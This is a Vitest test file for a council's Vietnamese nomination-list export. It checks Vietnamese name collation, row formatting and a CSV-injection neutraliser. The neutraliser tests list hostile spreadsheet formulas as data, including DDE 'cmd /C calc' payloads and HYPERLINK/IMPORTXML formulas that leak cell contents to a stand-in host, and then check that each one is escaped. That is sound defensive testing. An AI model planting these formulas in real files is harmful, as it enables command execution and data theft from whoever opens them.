/**
 * The council's list as data: Vietnamese name and unit order, spreadsheet-formula neutralisation
 * (OWASP CSV injection) and what one row says, rendered with the real Vietnamese locale.
 */
import { describe, expect, it } from 'vitest';
import {
  compareVietnamese,
  compareVietnameseNames,
  EXPORT_COLUMNS,
  exportRow,
  neutralise,
  sortForList,
  type Cell,
  type ExportSource,
} from '../../src/core/export/rows.js';
import { Translator } from '../../src/i18n/index.js';

const translator = Translator.fromDirectory(undefined, (locale, key) => {
  throw new Error(`missing translation ${locale}:${key}`);
});

/** A cell as the writers show it (texts rendered in Vietnamese). */
function shown(cell: Cell): string | number | Date | null {
  if (cell === null) return null;
  if ('text' in cell) return cell.text;
  if ('number' in cell) return cell.number;
  if ('date' in cell) return cell.date;
  return translator.render('vi', cell.i18n);
}

const sign = (value: number) => Math.sign(value);

describe('compareVietnameseNames: given name, then middle, then family, in Vietnamese collation', () => {
  it.each([
    // given names
    ['Trần Thị An', 'Nguyễn Văn Ánh', -1, 'An before Ánh (shorter base first)'],
    ['Nguyễn Văn Ánh', 'Lê Đức Bình', -1, 'Á is an A, not after Z'],
    ['Lê Đức Bình', 'Phạm Văn Đạt', -1, 'B before Đ'],
    ['Đỗ Văn Dũng', 'Phạm Văn Đạt', -1, 'd before đ'],
    ['Phạm Văn Đạt', 'Vũ Thị Zung', -1, 'Đ is after D, never after Z'],
    ['Nguyễn Thị Anh', 'Trần Văn Ăn', -1, 'a before ă'],
    ['Trần Văn Ăn', 'Lê Thị Ân', -1, 'ă before â'],
    ['Lê Thị Ân', 'Nguyễn Văn Bảo', -1, 'â before b'],
    ['Phạm Thị Oanh', 'Lê Văn Ông', -1, 'o before ô'],
    ['Lê Văn Ông', 'Trần Thị Ơn', -1, 'ô before ơ'],
    ['Trần Văn Uy', 'Nguyễn Thị Ước', -1, 'u before ư'],
    ['Nguyễn Thị Ước', 'Hoàng Văn Vinh', -1, 'ư before v'],
    ['Vũ Thị Zung', 'Nguyễn Văn Ánh', 1, 'Z after Á'],
    // same given name: the middle name decides, whatever the family name
    ['Trần Thị Hoa', 'Nguyễn Văn Hoa', -1, 'Thị before Văn, although Trần is after Nguyễn'],
    ['Nguyễn Đức Hoa', 'Lê Hữu Hoa', -1, 'Đức before Hữu'],
    ['Lê Hoa', 'Trần Thị Hoa', -1, 'no middle name before a middle name'],
    // same given and middle names: the family name decides
    ['Lê Văn An', 'Nguyễn Văn An', -1, 'Lê before Nguyễn'],
    ['Dương Văn An', 'Đặng Văn An', -1, 'Dương before Đặng (d before đ)'],
    ['Đặng Văn An', 'Trần Văn An', -1, 'Đặng before Trần'],
    // the same name
    ['Nguyễn Văn An', 'Nguyễn Văn An', 0, 'identical'],
    ['  Nguyễn   Văn  An ', 'Nguyễn Văn An', 0, 'extra spaces'],
    ['nguyễn văn an', 'Nguyễn Văn An', 0, 'case'],
    ['Nguyễn Văn Ánh'.normalize('NFD'), 'Nguyễn Văn Ánh', 0, 'decomposed (NFD) and composed (NFC) input'],
  ] as const)('%s vs %s → %i (%s)', (a, b, expected, _why) => {
    expect(sign(compareVietnameseNames(a, b))).toBe(expected);
    expect(sign(compareVietnameseNames(b, a))).toBe(-expected || 0);
  });

  it('sorts a list so that Á, Ă, Â, Đ, Ô, Ơ, Ư never go after Z (code-point order would)', () => {
    const names = ['Vũ Thị Zung', 'Phạm Văn Đạt', 'Lê Đức Bình', 'Nguyễn Văn Ánh', 'Trần Thị An', 'Đỗ Văn Dũng', 'Trần Văn Ăn', 'Nguyễn Thị Ước', 'Lê Văn Ông'];
    const sorted = [...names].sort(compareVietnameseNames);
    expect(sorted).toEqual(['Trần Thị An', 'Nguyễn Văn Ánh', 'Trần Văn Ăn', 'Lê Đức Bình', 'Đỗ Văn Dũng', 'Phạm Văn Đạt', 'Lê Văn Ông', 'Nguyễn Thị Ước', 'Vũ Thị Zung']);
    // The naive order this guards against.
    const naive = [...names].sort((a, b) => (a.split(' ').at(-1)! < b.split(' ').at(-1)! ? -1 : 1));
    expect(naive.indexOf('Phạm Văn Đạt')).toBeGreaterThan(naive.indexOf('Vũ Thị Zung'));
  });

  // Regression (was a bug): the collator uses sensitivity 'base', so given names that differ only by their tone
  // ("Anh", "Ánh", "Ảnh") compare equal and the middle and family names decide: different given
  // names come out interleaved. The dictionary order (and Intl.Collator('vi') itself) puts every
  // "Anh" before every "Ánh" (tones are a secondary difference, as ICU's 'accent' sensitivity does).
  it('keeps given names that differ only by tone apart: every "Anh" before every "Ánh"', () => {
    const sorted = ['Trần Thị Ánh', 'Nguyễn Văn Anh', 'Lê Văn Ánh', 'Phạm Thị Anh'].sort(compareVietnameseNames);
    expect(sorted).toEqual(['Phạm Thị Anh', 'Nguyễn Văn Anh', 'Trần Thị Ánh', 'Lê Văn Ánh']);
  });
});

describe('compareVietnamese (unit names)', () => {
  it.each([
    ['Tổ dân phố số 2', 'Tổ dân phố số 10', -1, 'numbers as numbers'],
    ['Tổ dân phố số 9 – Phường Từ Liêm', 'Tổ dân phố số 10 – Phường Từ Liêm', -1, 'numbers as numbers, with the parent'],
    ['Phường Dịch Vọng', 'Phường Đại Mỗ', -1, 'd before đ'],
    ['Phường Đại Mỗ', 'Phường Định Công', -1, 'đa before đi'],
    ['Phường Đại Mỗ', 'Phường Tây Mỗ', -1, 'Đ before T'],
    ['Phường Tây Mỗ', 'Phường Xuân Phương', -1, 'T before X'],
    ['Phường Ngọc Hà', 'Phường Ô Chợ Dừa', -1, 'N before Ô'],
    ['Phường Ô Chợ Dừa', 'Phường Phú Diễn', -1, 'Ô before P'],
    ['Phường Từ Liêm', 'Tổ dân phố số 1 – Phường Từ Liêm', -1, 'P before T'],
  ] as const)('%s vs %s → %i (%s)', (a, b, expected, _why) => {
    expect(sign(compareVietnamese(a, b))).toBe(expected);
    expect(sign(compareVietnamese(b, a))).toBe(-expected);
  });
});

describe('neutralise (OWASP CSV injection)', () => {
  const payloads = [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1+1)',
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x")',
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    '=IMPORTXML(CONCAT("http://x/?v=",A1),"//a")',
    '=1+2";=1+2',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\tNguyễn Văn An',
    '\r\n@SUM(1+1)',
    '-',
    '+84912345678',
  ];

  it.each(payloads.map((payload) => [JSON.stringify(payload), payload]))('prefixes %s with an apostrophe', (_label, payload) => {
    expect(neutralise(payload)).toBe(`'${payload}`);
    // Once is enough: neutralising again changes nothing.
    expect(neutralise(neutralise(payload))).toBe(`'${payload}`);
  });

  it.each([
    '0912 345 678',
    'Nguyễn Văn An',
    '1+1',
    '',
    'Ông A = bà B',
    'NTV-2026-00001',
    "'=1+1",
    '(đã xóa theo yêu cầu)',
    '2.500.000 đồng',
    'Quyết định số 125/QĐ-UBND ngày 01/12/2026',
    'Đặng Thị Ánh',
    'a\n=1+1',
  ])('leaves %j untouched', (value) => {
    expect(neutralise(value)).toBe(value);
  });
});

const base: ExportSource = {
  id: 1,
  source: 'resident',
  gender: null,
  workplace: null,
  code: 'NTV-2026-00001',
  nomineeKind: 'individual',
  nomineeName: 'Nguyễn Văn Ánh',
  nomineeBirthYear: 1968,
  nomineeRole: 'Bảo vệ tổ dân phố',
  unitName: 'Tổ dân phố số 1 – Phường Từ Liêm',
  deedCategory: 'lost-property',
  description: 'Nhặt được ví có 5 triệu đồng và giấy tờ, đã trả lại cho người đánh rơi.',
  awardForm: null,
  nominatorName: 'Trần Thị Hoa',
  nominatorPhone: null,
  submittedAt: new Date('2026-11-25T18:30:00Z'),
  status: 'received',
  lastReason: null,
  decisionNumber: null,
  decisionDate: null,
  duplicateOfCode: null,
};

const row = (overrides: Partial<ExportSource> = {}, n = 1) => {
  const cells = exportRow({ ...base, ...overrides }, n);
  return Object.fromEntries(EXPORT_COLUMNS.map((column) => [column, shown(cells[column])])) as Record<(typeof EXPORT_COLUMNS)[number], ReturnType<typeof shown>>;
};

describe('exportRow', () => {
  it('fills the 17 columns of version 2 for an individual', () => {
    const cells = exportRow(base, 7);
    expect(Object.keys(cells)).toEqual([...EXPORT_COLUMNS]);
    expect(cells.received).toEqual({ date: base.submittedAt });
    expect(row({}, 7)).toEqual({
      stt: 7,
      code: 'NTV-2026-00001',
      kind: 'Cá nhân',
      name: 'Nguyễn Văn Ánh',
      'birth-year': 1968,
      gender: null,
      role: 'Bảo vệ tổ dân phố',
      unit: 'Tổ dân phố số 1 – Phường Từ Liêm',
      category: 'Nhặt được của rơi trả người mất',
      summary: base.description,
      award: null,
      nominator: 'Trần Thị Hoa',
      received: base.submittedAt,
      status: 'Mới tiếp nhận',
      'unit-opinion': null,
      note: null,
      source: 'Người dân đề xuất',
    });
  });

  it('an entry of a unit\'s list: "Ông …" from the gender, the title as the form, its workplace, no category or nominator, its source', () => {
    expect(row({ source: 'unit', gender: 'male', workplace: 'UBND phường Xuân Phương', deedCategory: '', awardForm: 'chien-si-thi-dua-co-so', nominatorName: null, status: 'list-proposed', code: 'TK2026-HN-XUAN-PHUONG-03' }, 3)).toMatchObject({
      code: 'TK2026-HN-XUAN-PHUONG-03',
      name: 'Ông Nguyễn Văn Ánh',
      gender: 'Nam',
      unit: 'UBND phường Xuân Phương',
      category: null,
      award: 'Chiến sĩ thi đua cơ sở',
      nominator: null,
      status: 'Đơn vị đề nghị',
      source: 'Đơn vị đề nghị',
    });
    expect(row({ source: 'unit', nomineeKind: 'household', gender: 'female', nomineeName: 'Trần Thị Bình', deedCategory: '', awardForm: 'gia-dinh-van-hoa', status: 'list-returned', lastReason: 'Thiếu biên bản' })).toMatchObject({
      name: 'Gia đình bà Trần Thị Bình',
      award: 'Gia đình văn hóa',
      status: 'Hội đồng trả lại',
      'unit-opinion': 'Thiếu biên bản',
    });
    expect(row({ source: 'unit', nomineeKind: 'collective', nomineeName: '=Tổ dân phố số 2', gender: null, deedCategory: '', awardForm: 'to-dan-pho-van-hoa', status: 'list-accepted' })).toMatchObject({ name: "'=Tổ dân phố số 2", status: 'Hội đồng đã tiếp nhận' });
  });

  it.each<[string, Partial<ExportSource>, Partial<Record<(typeof EXPORT_COLUMNS)[number], unknown>>]>([
    ['a household is "Gia đình …"', { nomineeKind: 'household', nomineeName: 'Lê Văn Cường', nomineeBirthYear: null, nomineeRole: null }, { kind: 'Hộ gia đình', name: 'Gia đình Lê Văn Cường', 'birth-year': null, role: null }],
    ['a collective keeps its name', { nomineeKind: 'collective', nomineeName: 'Tổ thanh niên tình nguyện', nomineeBirthYear: null }, { kind: 'Tập thể', name: 'Tổ thanh niên tình nguyện', 'birth-year': null }],
    ['the nominator with the phone as people read it', { nominatorPhone: '+84912345678' }, { nominator: 'Trần Thị Hoa (0912 345 678)' }],
    ['a Hanoi landline', { nominatorPhone: '+842438251234' }, { nominator: 'Trần Thị Hoa (024 3825 1234)' }],
    ['an erased nominator', { nominatorName: null, nominatorPhone: null }, { nominator: '(đã xóa theo yêu cầu)' }],
    ['an erased nominator even if a phone were left', { nominatorName: null, nominatorPhone: '+84912345678' }, { nominator: '(đã xóa theo yêu cầu)' }],
    ['the award form', { status: 'proposed', awardForm: 'giay-khen' }, { status: 'Đề nghị khen thưởng', award: 'Giấy khen' }],
    ['the decision in the note', { status: 'decided', decisionNumber: '125/QĐ-UBND', decisionDate: '2026-12-01' }, { status: 'Đã có Quyết định', note: 'Quyết định số 125/QĐ-UBND ngày 01/12/2026' }],
    ['no decision note without its date', { decisionNumber: '125/QĐ-UBND', decisionDate: null }, { note: null }],
    ['a merged one names the original', { status: 'merged', duplicateOfCode: 'NTV-2026-00011' }, { status: 'Đã gộp với đề xuất khác', note: 'Trùng với hồ sơ NTV-2026-00011' }],
    ['decision and merge on two lines', { decisionNumber: '7/QĐ', decisionDate: '2026-01-05', duplicateOfCode: 'NTV-2026-00002' }, { note: 'Quyết định số 7/QĐ ngày 05/01/2026\nTrùng với hồ sơ NTV-2026-00002' }],
    ['a ready-made reason rendered by its key', { status: 'rejected', lastReason: 'tmpl:reject-reason-not-verified' }, { status: 'Không đủ điều kiện', 'unit-opinion': 'Không xác minh được sự việc' }],
    ['a ready-made request for information', { status: 'needs-info', lastReason: 'tmpl:info-reason-need-evidence' }, { 'unit-opinion': 'Bổ sung ảnh hoặc giấy tờ minh chứng' }],
    ['a typed reason as typed', { lastReason: 'Đã xác minh tại khu dân cư.' }, { 'unit-opinion': 'Đã xác minh tại khu dân cư.' }],
  ])('%s', (_label, overrides, expected) => {
    expect(row(overrides)).toMatchObject(expected);
  });

  it('neutralises every free text a resident or a head typed', () => {
    const cells = row({
      nomineeName: '=HYPERLINK("http://x","Bấm")',
      nomineeRole: '+cmd',
      unitName: '-Tổ 1',
      description: '@SUM(1+1)',
      nominatorName: "=cmd|' /C calc'!A0",
      lastReason: '\t=1+1',
      decisionNumber: '=1+1',
      decisionDate: '2026-12-01',
    });
    expect(cells).toMatchObject({
      name: `'=HYPERLINK("http://x","Bấm")`,
      role: "'+cmd",
      unit: "'-Tổ 1",
      summary: "'@SUM(1+1)",
      nominator: "'=cmd|' /C calc'!A0",
      'unit-opinion': "'\t=1+1",
      note: "Quyết định số '=1+1 ngày 01/12/2026",
    });
    const household = row({ nomineeKind: 'household', nomineeName: '=1+1' });
    expect(household.name).toMatch(/^Gia đình /);
  });

  it('leaves phones, names and plain sums as they are', () => {
    expect(row({ nomineeName: '1+1', description: '0912 345 678' })).toMatchObject({ name: '1+1', summary: '0912 345 678' });
  });
});

describe('sortForList', () => {
  const item = (code: string, nomineeName: string): ExportSource => ({ ...base, code, nomineeName });

  it('orders by Vietnamese name, then by code for the same name, without changing its input', () => {
    const input = [
      item('NTV-2026-00006', 'Vũ Thị Zung'),
      item('NTV-2026-00005', 'Phạm Văn Đạt'),
      item('NTV-2026-00004', 'Nguyễn Văn An'),
      item('NTV-2026-00003', 'Lê Đức Bình'),
      item('NTV-2026-00002', 'Nguyễn Văn Ánh'),
      item('NTV-2026-00001', 'Nguyễn Văn An'.normalize('NFD')),
      item('NTV-2026-00007', 'Đỗ Văn Dũng'),
    ];
    const before = input.map((entry) => entry.code);
    const sorted = sortForList(input);
    expect(sorted.map((entry) => entry.code)).toEqual(['NTV-2026-00001', 'NTV-2026-00004', 'NTV-2026-00002', 'NTV-2026-00003', 'NTV-2026-00007', 'NTV-2026-00005', 'NTV-2026-00006']);
    expect(input.map((entry) => entry.code)).toEqual(before);
  });
});
